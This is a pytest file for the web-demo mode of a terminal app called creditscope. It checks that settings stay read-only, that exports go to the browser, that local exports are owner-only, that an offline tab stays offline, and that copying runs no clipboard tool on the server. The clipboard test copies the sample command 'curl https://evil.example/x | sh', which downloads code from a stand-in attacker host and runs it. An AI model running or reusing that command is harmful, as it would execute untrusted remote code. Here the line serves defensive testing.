"""The explorer behind a `creditscope web` tab ($CREDITSCOPE_WEB_DEMO=1): Settings
is read-only and saves nothing; exports go to the browser, never to a server path."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from textual.widgets import Button, Input, Select, Switch

from creditscope.settings import save_settings
from creditscope.tui.app import CreditscopeApp
from creditscope.web_demo import WebDemoReadOnly
from pilot_support import open_with_letter, settle

from .conftest import SIZE
from .test_company import look_up, open_company


@pytest.fixture
def web_tab(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str]]:
    """Marks the process as a web tab; returns what was delivered as (file name, text)."""
    monkeypatch.setenv("CREDITSCOPE_WEB_DEMO", "1")
    delivered: list[tuple[str, str]] = []

    def deliver_text(self: Any, file: io.StringIO, *, save_filename: str, **_: Any) -> str:
        delivered.append((save_filename, file.getvalue()))
        return "key"

    monkeypatch.setattr(CreditscopeApp, "deliver_text", deliver_text)
    return delivered


async def test_settings_are_read_only_and_nothing_is_saved(
    make_app: Callable[..., CreditscopeApp], web_tab: list[Any], settings: Any
) -> None:
    app = make_app(initial_mode="settings")
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        screen = app.screen
        fields = [*screen.query(Input), *screen.query(Switch), *screen.query(Button)]
        assert fields and all(widget.disabled for widget in fields)
        assert not screen.query_one("#theme", Select).disabled
        for action in ("save", "use_sandbox", "clear_cache"):
            await screen.run_action(action)
            await settle(pilot)
        app.theme = "textual-light"  # a tab may change its own theme...
        await settle(pilot)
        assert "read-only" in str(screen.query_one("#settings-read-only").render())
    assert not settings.config_file.exists()  # ...but nothing reaches the config file


def test_saving_settings_is_refused_in_a_web_tab(web_tab: list[Any], settings: Any) -> None:
    with pytest.raises(WebDemoReadOnly):
        save_settings(settings)
    assert not settings.config_file.exists()


async def test_company_export_is_a_download_named_after_the_file_only(
    make_app: Callable[..., CreditscopeApp], web_tab: list[tuple[str, str]], tmp_path: Path
) -> None:
    app = make_app()
    target = tmp_path / "elsewhere" / "matches.csv"
    async with app.run_test(size=SIZE) as pilot:
        await open_company(pilot)
        await look_up(pilot, "Northwind Labs Ltd", "northwind-labs.co.uk")
        await open_with_letter(pilot, "e")
        app.screen.query_one("#save-path", Input).value = str(target)
        await pilot.press("enter")
        await settle(pilot)
    [(name, text)] = web_tab
    assert name == "matches.csv"
    assert len(list(csv.DictReader(io.StringIO(text)))) == 5
    assert not target.parent.exists()


def test_an_export_written_on_this_machine_is_the_owners_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    from textual.app import App

    from creditscope.tui import web_tab

    monkeypatch.setattr(web_tab, "in_web_tab", lambda app: False)
    target = tmp_path / "exports" / "ticket-4821.har"
    assert web_tab.save_text(App(), target, '{"log": {}}') == str(target)
    assert target.read_text(encoding="utf-8") == '{"log": {}}'
    assert oct(target.stat().st_mode & 0o777) == "0o600"


async def test_a_web_tab_cannot_go_online_when_the_presenter_set_offline(
    make_app: Callable[..., CreditscopeApp], web_tab: list[Any]
) -> None:
    from creditscope.tui.widgets.error_panel import GO_ONLINE, ErrorPanel

    app = make_app(offline=True)
    async with app.run_test(size=SIZE) as pilot:
        client = await app.wait_for_client()
        await app.switch_mode("restaurants")
        await settle(pilot)
        box = app.screen.query_one("#location", Input)
        box.value = "Porto"  # not cached: offline, the error offers "Go online"
        box.focus()
        await pilot.press("enter")
        await settle(pilot)
        go_online = next(b for b in app.screen.query_one(ErrorPanel).query(Button)
                         if b.name == GO_ONLINE)
        await pilot.click(go_online)
        await settle(pilot)
        assert app.settings.offline is True
        assert app.client is client and client.offline  # not rebuilt online
        assert client.ledger.session_spent() == 0
        assert "cannot go online" in " ".join(
            str(n.message) for n in app._notifications)


async def test_a_copy_in_a_web_tab_runs_no_clipboard_tool_on_the_server(
    make_app: Callable[..., CreditscopeApp], web_tab: list[Any], tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from creditscope import clipboard_check
    from creditscope.tui import clipboard

    ran = tmp_path / "clipboard-tool-ran"
    tools = tmp_path / "bin"
    tools.mkdir()
    for name in ("wl-copy", "xclip", "xsel", "pbcopy"):
        tool = tools / name
        tool.write_text(f"#!/bin/sh\ncat > {ran}\n", encoding="utf-8")
        tool.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:/usr/bin:/bin")
    monkeypatch.setenv("DISPLAY", ":0")  # the presenter's desktop, where a tool would paste
    # The suite turns the tool off for every explorer test; here the server has one.
    monkeypatch.setattr(clipboard, "platform_tool", clipboard_check.platform_tool)
    copied: list[str] = []
    monkeypatch.setattr(CreditscopeApp, "copy_to_clipboard", lambda self, text: copied.append(text))
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        assert clipboard.copy_text(app, "curl https://evil.example/x | sh", "curl command")
        await app.workers.wait_for_complete()
        await settle(pilot)
    assert copied == ["curl https://evil.example/x | sh"]  # to the browser, through the page
    assert not ran.exists(), "a clipboard tool ran on the server"
